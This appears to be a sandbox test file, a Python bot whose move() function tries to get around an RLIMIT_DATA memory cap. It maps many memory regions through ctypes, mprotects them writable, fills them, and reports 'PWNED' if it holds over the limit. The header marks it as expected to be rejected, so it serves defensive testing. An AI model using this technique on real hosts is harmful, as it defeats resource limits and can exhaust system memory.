# attack: mapping
# expect: rejected
# language: promised
# verdict: move exception
# turns: 1
# note: takes unwritable memory until the address space is full; the kernel then lets it become writable beyond RLIMIT_DATA
import ctypes

MIB = 1 << 20
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_ulong]

PIECE = 16 * MIB


def take(size, protection=3, flags=0x22, at=0, fd=-1):
    got = libc.mmap(ctypes.c_void_p(at), ctypes.c_size_t(size), ctypes.c_long(protection), ctypes.c_long(flags), fd, ctypes.c_long(0))
    return None if got in (None, 2**64 - 1) else got


def move(observation):
    for first in (0, 1, 4, 1 << 24, 1 << 32):
        pieces = []
        while len(pieces) < 80 and (at := take(PIECE, first)):
            pieces.append(at)
        while len(pieces) < 80 and take(4096, first):
            pass
        held = 0
        for at in pieces:
            if libc.mprotect(at, PIECE, 3) == 0:
                ctypes.memset(at, 1, PIECE)
                held += PIECE
        if held > 640 * MIB:
            return "PWNED %d MiB held, the limit is 512" % (held // MIB)
        for at in pieces:
            libc.munmap(ctypes.c_void_p(at), ctypes.c_size_t(PIECE))
    return observation["legal"][0]
